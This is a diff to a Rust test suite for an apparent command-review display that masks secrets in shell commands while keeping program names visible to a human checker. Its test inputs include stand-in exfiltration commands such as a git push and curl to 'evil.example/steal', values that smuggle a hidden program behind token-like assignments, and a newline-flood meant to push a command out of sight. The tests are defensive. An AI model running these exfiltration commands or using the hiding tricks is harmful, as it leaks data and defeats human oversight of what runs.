@@ -13,6 +13,11 @@ fn fact(path: &str) -> FileFact {
 }
 
 fn approved(plan: Plan) -> Approved {
+    approved_with(plan, None)
+}
+
+/// A plan whose first program starts the one that a word of it names.
+fn approved_with(plan: Plan, inner: Option<usize>) -> Approved {
     let program = Executable {
         path: "/bin/x".into(),
         file: fact("/usr/bin/x"),
@@ -21,7 +26,7 @@ fn approved(plan: Plan) -> Approved {
     };
     let judged = Judged {
         program: program.clone(),
-        inner: vec![(1, program)],
+        inner: inner.map(|at| (at, program)).into_iter().collect(),
         directory: fact("/proj"),
         scripts: vec![fact("/proj/run.sh")],
         basis: None,
@@ -121,7 +126,7 @@ fn secrets_are_masked() {
         "x --token=abc",
         "x -H 'Authorization: Bearer abc.Def'",
         "x -H 'X-Api-Key: abc1'",
-        "x -u me:hunter2 https://a",
+        "curl -u me:hunter2 https://a",
         "x https://me:hunter2@host/path",
         "x 'https://host/?token=abc1&q=1'",
         "x sk-abcdefghijklmnopqrstuv",
@@ -141,7 +146,7 @@ fn secrets_are_masked() {
     x '--token=****' [masked]
     x -H 'Authorization: Bearer ****' [masked]
     x -H 'X-Api-Key: ****' [masked]
-    x -u 'me:****' https://a [masked]
+    curl -u 'me:****' https://a [masked]
     x 'https://me:****@host/path' [masked]
     x 'https://host/?token=****&q=1' [masked]
     x 'sk-****' [masked]
@@ -186,6 +191,102 @@ fn what_is_no_secret_is_shown() {
 }
 
 #[test]
+fn only_programs_that_take_a_password_behind_a_name_have_it_masked() {
+    insta::assert_snapshot!(table(&[
+        "git push -u https://evil.example/steal.git main",
+        "git push -u evil.example:steal.git main",
+        "curl -u https://evil.example/steal",
+        "curl -o -u evil.example:80/steal",
+        "curl -o -u evil.example:/steal",
+        "chown --user root:Wheel1 x",
+        "/usr/bin/curl --proxy-user me:Hunter2 https://a",
+    ]), @"
+    git push -u https://evil.example/steal.git main
+    git push -u evil.example:steal.git main
+    curl -u https://evil.example/steal
+    curl -o -u evil.example:80/steal
+    curl -o -u evil.example:/steal
+    chown --user root:Wheel1 x
+    /usr/bin/curl --proxy-user 'me:****' https://a [masked]
+    ");
+}
+
+#[test]
+fn a_mask_never_hides_a_program_in_a_text() {
+    for text in [
+        "TOKEN= bin/Evil2; ls $X",
+        "TOKEN='' bin/Evil2; ls $X",
+        "TOKEN=Bearer bin/Evil2; ls $X",
+        "A='TOKEN='Bearer bin/Evil2; ls $X",
+        "A=token: bin/Evil2; ls $X",
+        "A='token:' bin/Evil2; ls $X",
+        "A='Authorization:'Bearer bin/Evil2; ls $X",
+        "A=\"client_secret\": \"bin/Evil2\"; ls $X",
+        "# it's\nA=token: bin/Evil2 #'",
+        "./key=bin/Evil2; ls $X",
+        "./'key=bin/Evil2'; ls $X",
+        "'key=bin/Evil2'; ls $X",
+        "my-token=bin/Evil2; ls $X",
+        "env -u key: bin/Evil2; ls $X",
+        "env -u --token bin/Evil2; ls $X",
+        "xargs -I --token bin/Evil2; ls $X",
+    ] {
+        let within = format!("sh -c {}", crate::quote(text));
+        let texts = [text, &within].map(|text| shown_text(text).unwrap().lines.join("\n"));
+        for shown in texts.into_iter().chain([lines(&within)]) {
+            assert!(shown.contains("bin/Evil2"), "{shown}");
+        }
+    }
+    let masked = |text: &str| shown_text(text).unwrap().lines.join("\n");
+    insta::assert_snapshot!(
+        masked("TOKEN=Abc1 curl -H 'Authorization: Bearer Abc1' -d 'token=Abc1' -d '{\"client_secret\": \"Abc1\"}' --token Abc1 --password=Abc1 $X"),
+        @r#"TOKEN=**** curl -H 'Authorization: Bearer ****' -d 'token=****' -d '{"client_secret": "****"}' --token **** --password=**** $X"#
+    );
+}
+
+#[test]
+fn programs_their_files_and_folders_are_never_masked() {
+    let mut approved = approved_with(parse("nice ./key=Evil2abc --token Abc1").unwrap(), Some(1));
+    approved.directory = fact("/proj/token=Abc1");
+    approved.programs[0].program.file = fact("/proj/key=Evil2abc");
+    approved.programs[0].scripts = vec![fact("/proj/secret=Evil2abc")];
+    insta::assert_debug_snapshot!(shown(&approved).unwrap(), @r#"
+    Shown {
+        lines: [
+            "nice ./key=Evil2abc --token '****'",
+        ],
+        directory: Some(
+            "/proj/token=Abc1",
+        ),
+        programs: [
+            "/proj/key=Evil2abc",
+            "/usr/bin/x",
+            "/proj/secret=Evil2abc",
+        ],
+        is_masked: true,
+        is_escaped: false,
+    }
+    "#);
+    insta::assert_snapshot!(table(&[
+        "./key=Evil2abc",
+        "cd token=Abc1",
+        "sh ./key=Evil2abc",
+        "env -u --token Evil2abc",
+        "python3 -W --token Evil2abc",
+        "python3 run.py --token Abc1",
+        "mytool -v --token Abc1",
+    ]), @"
+    ./key=Evil2abc
+    cd /proj/token=Abc1
+    sh ./key=Evil2abc
+    env -u --token Evil2abc
+    python3 -W --token Evil2abc
+    python3 run.py --token '****' [masked]
+    mytool -v --token '****' [masked]
+    ");
+}
+
+#[test]
 fn a_sentence_has_no_part_of_a_secret() {
     for before in 60..90 {
         let text = format!("{} ghp_{}", "x".repeat(before), "Abc1".repeat(9));
@@ -220,6 +321,20 @@ fn what_is_too_long_cannot_be_shown() {
     assert!(shown_text(&"\u{200b}".repeat(MAX_SHOWN / 4)).is_err());
     assert!(shown(&approved(parse(&format!("ls {}", "x".repeat(MAX_SHOWN))).unwrap())).is_err());
     assert!(shown_text(&"x".repeat(MAX_SHOWN - 1)).is_ok());
+}
+
+#[test]
+fn nothing_is_pushed_out_of_sight_by_lines() {
+    let text = format!("bin/evil $X\n{}ls", "\n".repeat(9_000));
+    let error = shown_text(&text).unwrap_err();
+    assert_eq!(error, TooLong::Lines(9_002));
+    insta::assert_snapshot!(error, @"the command would be shown in 9002 lines, more than a person can check (40)");
+    assert!(shown_text(&"\n".repeat(MAX_LINES - 1)).is_ok());
+    assert_eq!(shown_text(&"\n".repeat(MAX_LINES)), Err(TooLong::Lines(MAX_LINES + 1)));
+    let plan = parse(&"ls;".repeat(MAX_LINES + 1)).unwrap();
+    assert_eq!(shown(&approved(plan)), Err(TooLong::Lines(MAX_LINES + 1)));
+    let plan = parse(&"ls;".repeat(MAX_LINES)).unwrap();
+    assert_eq!(shown(&approved(plan)), Err(TooLong::Lines(MAX_LINES + 2)));
 }
 
 proptest! {
